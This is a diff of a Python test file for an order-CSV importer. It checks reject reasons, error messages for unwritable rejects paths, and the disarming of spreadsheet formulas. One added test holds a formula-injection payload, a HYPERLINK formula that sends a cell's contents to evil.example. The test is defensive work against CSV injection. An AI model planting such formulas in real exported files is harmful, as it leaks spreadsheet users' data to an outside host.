@@ -30,7 +30,7 @@ def reasons(path):
         ("A,1,confirmed,,,1", "placed_at", "", Reason.MISSING_VALUE),
         ("A,,confirmed,2026-03-01,,1", "order", "", Reason.MISSING_VALUE),
         ("A,1,confirmed,2026-03-01,,", "amount", "", Reason.MISSING_VALUE),
-        ("A,1,confirmed,2026-03-01,,-5.00", "amount", "-5.00", Reason.NEGATIVE_AMOUNT),
+        ("A,1,confirmed,2026-03-01,,-5.00", "amount", "'-5.00", Reason.NEGATIVE_AMOUNT),
         ('A,1,confirmed,2026-03-01,,"1.234,56"', "amount", "1.234,56", Reason.WRONG_AMOUNT),
         ('A,1,confirmed,2026-03-01,,"1,234.56"', "amount", "1,234.56", Reason.WRONG_AMOUNT),
         ("A,1,confirmed,2026-03-01,,NaN", "amount", "NaN", Reason.WRONG_AMOUNT),
@@ -173,3 +173,31 @@ def test_missing_files_are_named(tmp_path):
     (tmp_path / "one.csv").write_text("x")
     with pytest.raises(ImportFailed, match="give the folder"):
         import_facts("olist", tmp_path / "one.csv")
+
+
+def test_values_that_a_spreadsheet_would_run_are_disarmed_in_the_rejects(orders_file, rejected):
+    formula = '=HYPERLINK("http://evil.example/?"&A1)'
+    cell = '"' + formula.replace('"', '""') + '"'
+    result = import_facts("generic", orders_file(f"A,1,{cell},2026-03-01,,1", GOOD))
+    assert rejected(result.rejects_path)[0][3] == f"'{formula}"
+
+
+def test_rejects_cannot_go_to_a_folder(orders_file, tmp_path):
+    with pytest.raises(CommandError, match=r"is a folder\. Name a file in it, such as .*/out/rejects\.csv"):
+        (tmp_path / "out").mkdir()
+        call_command("import_orders", str(orders_file(GOOD)), mapping="generic", rejects=tmp_path / "out")
+    assert not ImportRun.objects.exists()
+
+
+def test_rejects_cannot_go_where_nothing_can_be_written(orders_file, tmp_path, monkeypatch):
+    (tmp_path / "file").write_text("")
+    for path, why in (
+        (tmp_path / "file" / "rejects.csv", "is not a folder"),
+        (tmp_path / ("x" * 300), "File name too long"),
+    ):
+        with pytest.raises(CommandError, match=f"{why}.*Name another file with --rejects"):
+            call_command("import_orders", str(orders_file(GOOD, "A,1,?,,,")), mapping="generic", rejects=path)
+    monkeypatch.setattr("os.access", lambda *arguments: False)  # root may write everywhere
+    with pytest.raises(CommandError, match="no permission to write to"):
+        call_command("import_orders", str(orders_file(GOOD)), mapping="generic", rejects=tmp_path / "a" / "b.csv")
+    assert not Order.objects.exists()
